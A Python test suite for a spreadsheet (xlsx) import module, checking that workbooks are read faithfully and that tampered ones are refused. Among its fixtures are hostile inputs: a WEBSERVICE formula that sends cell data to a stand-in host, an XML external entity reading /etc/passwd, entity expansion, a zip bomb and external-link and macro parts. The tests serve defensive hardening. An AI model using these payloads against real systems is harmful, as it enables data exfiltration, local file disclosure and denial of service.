"""Workbooks as spreadsheets write them, and as somebody hostile may make them."""

import io
import zipfile
from collections.abc import Callable
from datetime import date, datetime, time, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from hrddesk.interop.formats import foreign_tables, workbook
from hrddesk.interop.formats.csv_tables import CsvTable
from hrddesk.interop.formats.findings import Findings
from hrddesk.system.jobs import Cancelled, Job, silent

_MOMENT = datetime(2020, 3, 1, 14, 30)  # noqa: DTZ001  a spreadsheet knows no time zones
_Rewrite = Callable[[str, bytes], bytes | None]


def _book(*rows: list[object], formats: dict[str, str] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    for place, number_format in (formats or {}).items():
        sheet[place].number_format = number_format
    return _bytes(book)


def _bytes(book: Workbook) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _altered(data: bytes, rewrite: _Rewrite, **more: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            made = rewrite(name, old.read(name))
            if made is not None:
                new.writestr(name, made)
        for name, part in more.items():
            new.writestr(name.replace("__", "/").replace("_dot_", "."), part)
    return stream.getvalue()


def _read(tmp_path: Path, data: bytes, sheet: str = "") -> tuple[CsvTable | None, Findings]:
    path = tmp_path / "list.xlsx"
    path.write_bytes(data)
    found = Findings()
    return foreign_tables.read(path, found, silent(), sheet), found


def _cells(table: CsvTable | None) -> list[list[str]]:
    assert table is not None
    return [list(row.cells.values()) for row in table.rows]


def _codes(found: Findings) -> list[str]:
    return [item.name for item in (*found.errors, *found.warnings)]


def test_cells_are_read_as_a_person_sees_them(tmp_path: Path) -> None:
    table, found = _read(tmp_path, _book(
        ["Name", "Born", "Number", "Free"],
        ["籍朔", date(1970, 2, 6), 12, True],
        ["=x", _MOMENT, 2.5, None],
        [None, None, None, None],
        ["Pang Suhe", time(4, 5), 1e22, timedelta(hours=1)],
        formats={"A3": "@"},
    ))  # fmt: skip
    assert table is not None
    assert (table.columns, [row.number for row in table.rows]) == (
        ("Name", "Born", "Number", "Free"),
        [2, 3, 5],
    )
    assert _cells(table)[0] == ["籍朔", "1970-02-06", "12", "TRUE"]
    assert _cells(table)[1][1:] == ["2020-03-01 14:30", "2.5"]
    assert _cells(table)[2][1:] == ["04:05:00", "1e+22", "1:00:00"]
    assert _codes(found) == ["formula", "digits-lost"]


@pytest.mark.parametrize(
    ("number_format", "shown"),
    [
        ("yyyy-mm-dd", "2020-02-01"), ("mmm-yy", "2020-02"), ("yyyy", "2020"), ('yyyy"年"m"月"', "2020-02"),
        ("[$-404]m/d/yy", "2020-02-01"),
    ],
)  # fmt: skip
def test_no_day_is_invented_that_the_cell_does_not_show(
    tmp_path: Path, number_format: str, shown: str
) -> None:
    data = _book(["d"], [date(2020, 2, 1)], formats={"A2": number_format})
    table, _ = _read(tmp_path, data)
    assert _cells(table) == [[shown]]


def test_a_formula_is_never_computed_nor_repeated(tmp_path: Path) -> None:
    data = _book(["Name", "Age"], ["Ji Shuo", '=WEBSERVICE("http://h.example/"&A2)'])
    table, found = _read(tmp_path, data)
    assert _cells(table) == [["Ji Shuo", ""]]
    (warning,) = found.warnings
    assert (warning.name, warning.row, warning.column, warning.value) == ("formula", 2, "B2", "")

    def computed(name: str, part: bytes) -> bytes:
        return (
            part.replace(b"<v></v>", b"<v>41</v>")
            .replace(b"<v />", b"<v>41</v>")
            .replace(b"<v/>", b"<v>41</v>")
        )

    table, found = _read(tmp_path, _altered(data, computed))
    assert _cells(table) == [["Ji Shuo", "41"]]


def test_one_sheet_is_read_and_the_others_are_named(tmp_path: Path) -> None:
    book = Workbook()
    first, second = book.active, book.create_sheet("Second")
    third = book.create_sheet("Third")
    assert first is not None
    second.append(["n"])
    second.append(["Ji Shuo"])
    third.append(["n"])
    third.append(["Pang Suhe"])
    table, found = _read(tmp_path, _bytes(book))
    assert (_cells(table), [(i.name, i.value, i.left_out) for i in found.warnings]) == (
        [["Ji Shuo"]], [("sheet-not-read", "Third", 1)],
    )  # fmt: skip
    table, _ = _read(tmp_path, _bytes(book), "Third")
    assert _cells(table) == [["Pang Suhe"]]
    table, found = _read(tmp_path, _bytes(book), "Fourth")
    assert (table, _codes(found)) == (None, ["no-such-sheet"])
    table, found = _read(tmp_path, _bytes(Workbook()))
    assert (table, _codes(found)) == (None, ["no-columns"])


def test_a_bomb_is_not_unpacked_whatever_its_header_claims(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MOST_UNPACKED", 8 * 1024 * 1024)
    row = b"<row><c t='inlineStr'><is><t>" + b"A" * 1000 + b"</t></is></c></row>"

    def blown(name: str, part: bytes) -> bytes:
        return part.replace(b"</sheetData>", row * 20_000 + b"</sheetData>") if "sheet1" in name else part

    data = _altered(_book(["n"], ["x"]), blown)
    assert len(data) < 200_000
    table, found = _read(tmp_path, data)
    assert (table, _codes(found)) == (None, ["unpacks-too-large"])


def test_a_part_under_another_name_is_looked_through_too(tmp_path: Path) -> None:
    def hidden(name: str, part: bytes) -> bytes:
        return part.replace(b"worksheets/sheet1.xml", b"media/image1.png")

    declared = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa">]><worksheet>&a;</worksheet>'
    data = _altered(_book(["n"], ["x"]), hidden, xl__media__image1_dot_png=declared)
    assert _codes(_read(tmp_path, data)[1]) == ["broken-workbook"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_before_anything_is_parsed(tmp_path: Path, encoding: str) -> None:
    declared = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;">'
        '<!ENTITY f SYSTEM "file:///etc/passwd">]><sst><si><t>&b;&f;</t></si></sst>'
    ).encode(encoding)
    data = _altered(_book(["n"], ["x"]), lambda name, part: declared if "styles" in name else part)
    table, found = _read(tmp_path, data)
    assert (table, _codes(found)) == (None, ["broken-workbook"])


def test_a_sheet_that_claims_to_be_huge_costs_what_it_holds(tmp_path: Path) -> None:
    def claiming(name: str, part: bytes) -> bytes:
        if "sheet1" not in name:
            return part
        return part.replace(b'ref="A1:A2"', b'ref="A1:XFD1048576"')

    data = _altered(_book(["n"], ["x"]), claiming)
    table, _ = _read(tmp_path, data)
    assert table is not None
    assert table.columns == ("n",)


def test_a_row_at_the_end_of_the_sheet_does_not_fill_the_memory(tmp_path: Path) -> None:
    def far(name: str, part: bytes) -> bytes:
        return part.replace(b'r="2"', b'r="1048576"').replace(b'r="A2"', b'r="A1048576"')

    table, found = _read(tmp_path, _altered(_book(["n"], ["x"]), far))
    assert (table, _codes(found)) == (None, ["too-many-rows"])


def test_a_cell_in_the_last_column_is_refused(tmp_path: Path) -> None:
    def far(_: str, part: bytes) -> bytes:
        return part.replace(b'r="A2"', b'r="XFD2"')

    table, found = _read(tmp_path, _altered(_book(["n"], ["x"]), far))
    assert (table, _codes(found)) == (None, ["too-many-columns"])


def test_macros_and_links_to_other_workbooks_are_never_opened(tmp_path: Path) -> None:
    link = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="http://h.example/x.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = _altered(
        _book(["n"], ["x"]), lambda _, part: part,
        xl__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0 never run",
        xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=link,
    )  # fmt: skip
    table, found = _read(tmp_path, data)
    assert (_cells(table), _codes(found)) == ([["x"]], [])


@pytest.mark.parametrize("cut", [30, 200, 1000, -40])
def test_a_broken_workbook_is_said_to_be_one(tmp_path: Path, cut: int) -> None:
    table, found = _read(tmp_path, _book(["n"], ["x"])[:cut])
    assert (table, _codes(found)) == (None, ["broken-workbook"])


@pytest.mark.parametrize("missing", ["xl/workbook.xml", "[Content_Types].xml", "xl/worksheets/sheet1.xml"])
def test_a_workbook_without_its_parts_is_broken(tmp_path: Path, missing: str) -> None:
    data = _altered(_book(["n"], ["x"]), lambda name, part: None if name == missing else part)
    table, found = _read(tmp_path, data)
    assert table is None
    assert _codes(found)[0] in ("broken-workbook", "no-columns")


def test_a_password_is_said(tmp_path: Path) -> None:
    data = bytearray(_book(["n"], ["x"]))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    table, found = _read(tmp_path, bytes(data))
    assert (table, _codes(found)) == (None, ["sealed-workbook"])


def test_reading_can_be_cancelled(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    path.write_bytes(_book(["n"], ["x"]))
    job = Job()
    job.cancel()
    with pytest.raises(Cancelled):
        foreign_tables.read(path, Findings(), job)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.integers(0, 6000), st.integers(0, 255)), min_size=1, max_size=8))
def test_a_workbook_that_was_tampered_with_is_read_or_refused(
    tmp_path: Path, changed: list[tuple[int, int]]
) -> None:
    data = bytearray(_book(["n", "d"], ["x", date(2020, 2, 1)]))
    for place, value in changed:
        data[4 + place % (len(data) - 4)] = value
    table, found = _read(tmp_path, bytes(data))
    assert found.errors or _cells(table) == [["x", "2020-02-01"]]


def test_what_xml_cannot_hold_is_read_as_the_format_writes_it(tmp_path: Path) -> None:
    table, _ = _read(tmp_path, _book(["name"], ["one_x000D_two"], ["_xD800_"], ["_x1_"]))
    assert _cells(table) == [["one\rtwo"], ["_xD800_"], ["_x1_"]]
